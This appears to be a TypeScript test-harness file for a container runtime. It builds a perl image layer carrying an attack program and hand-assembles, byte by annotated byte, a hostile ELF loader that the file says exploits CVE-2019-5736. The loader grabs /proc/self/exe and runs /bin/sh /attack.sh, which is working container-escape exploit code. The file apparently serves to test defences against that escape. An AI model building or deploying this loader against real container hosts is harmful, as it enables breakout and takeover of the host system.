import { execFileSync } from 'node:child_process';
import { readFileSync, realpathSync } from 'node:fs';
import { dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { LayerEntry } from './busybox-image.js';

/** The program of attacks, for `perl`, on this machine. */
export const ATTACKS = fileURLToPath(new URL('./attacks.pl', import.meta.url));

/** This machine's perl (Essential on Debian), the libraries that it is linked with, and the program of attacks. */
export function perlLayer(): LayerEntry[] {
  const linked = execFileSync('ldd', ['/usr/bin/perl'], { encoding: 'utf8' });
  const files = ['/usr/bin/perl', ...(linked.match(/\/\S+/g) ?? [])];
  const directories = new Set(files.flatMap((path) => parents(path)));
  return [
    ...[...directories].sort().map((path) => ({
      name: path.slice(1),
      type: 'directory' as const,
      mode: 0o755,
    })),
    ...files.map((path) => ({
      name: path.slice(1),
      mode: 0o755,
      content: readFileSync(realpathSync(path)),
    })),
    { name: 'attacks.pl', content: readFileSync(ATTACKS) },
  ];
}

function parents(path: string): string[] {
  const parent = dirname(path);
  return parent === '/' ? [] : [...parents(parent), parent];
}

/** Where the C library's loader of this machine lies in an image: what the kernel runs first of a dynamic program. */
export const LOADER = 'lib64/ld-linux-x86-64.so.2';

/**
 * A loader for x86-64 that means harm (CVE-2019-5736). Whatever program is run through it, it opens that program's file,
 * `/proc/self/exe`, keeps it as a descriptor, and executes `/bin/sh /attack.sh`. 64 bytes of ELF header, one segment,
 * code, strings (System V ABI; Linux syscall numbers).
 */
export function hostileLoader(): Buffer {
  const base = 0x400000;
  const codeAt = 64 + 56;
  const strings = Buffer.from('/proc/self/exe\0/bin/sh\0/attack.sh\0');
  // prettier-ignore
  const code = (stringsAt: number): Buffer => Buffer.concat([
    Buffer.from([0x48, 0x8d, 0x3d]), int32(stringsAt - 7),           // lea rdi, [rip + "/proc/self/exe"]
    Buffer.from([0x31, 0xf6, 0x31, 0xd2]),                           // xor esi, esi; xor edx, edx (O_RDONLY)
    Buffer.from([0xb8, 2, 0, 0, 0, 0x0f, 0x05]),                     // open
    Buffer.from([0x48, 0x8d, 0x3d]), int32(stringsAt + 15 - 25),     // lea rdi, [rip + "/bin/sh"]
    Buffer.from([0x48, 0x8d, 0x05]), int32(stringsAt + 23 - 32),     // lea rax, [rip + "/attack.sh"]
    Buffer.from([0x6a, 0x00, 0x50, 0x57]),                           // push 0; push rax; push rdi
    Buffer.from([0x48, 0x89, 0xe6, 0x31, 0xd2]),                     // mov rsi, rsp; xor edx, edx
    Buffer.from([0xb8, 59, 0, 0, 0, 0x0f, 0x05]),                    // execve
    Buffer.from([0xbf, 99, 0, 0, 0, 0xb8, 60, 0, 0, 0, 0x0f, 0x05]), // exit(99)
  ]);
  const body = Buffer.concat([code(code(0).length), strings]);
  const head = Buffer.alloc(codeAt);
  head.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]); // ELF, 64 bits, little-endian
  head.writeUInt16LE(3, 16); // ET_DYN: it is laid anywhere
  head.writeUInt16LE(62, 18); // x86-64
  head.writeUInt32LE(1, 20);
  head.writeBigUInt64LE(BigInt(base + codeAt), 24); // entry
  head.writeBigUInt64LE(64n, 32); // program headers
  head.writeUInt16LE(64, 52);
  head.writeUInt16LE(56, 54);
  head.writeUInt16LE(1, 56);
  const size = BigInt(codeAt + body.length);
  head.writeUInt32LE(1, 64); // PT_LOAD
  head.writeUInt32LE(5, 68); // readable, executable
  head.writeBigUInt64LE(BigInt(base), 80);
  head.writeBigUInt64LE(BigInt(base), 88);
  head.writeBigUInt64LE(size, 96);
  head.writeBigUInt64LE(size, 104);
  head.writeBigUInt64LE(0x1000n, 112);
  return Buffer.concat([head, body]);
}

function int32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeInt32LE(value);
  return bytes;
}
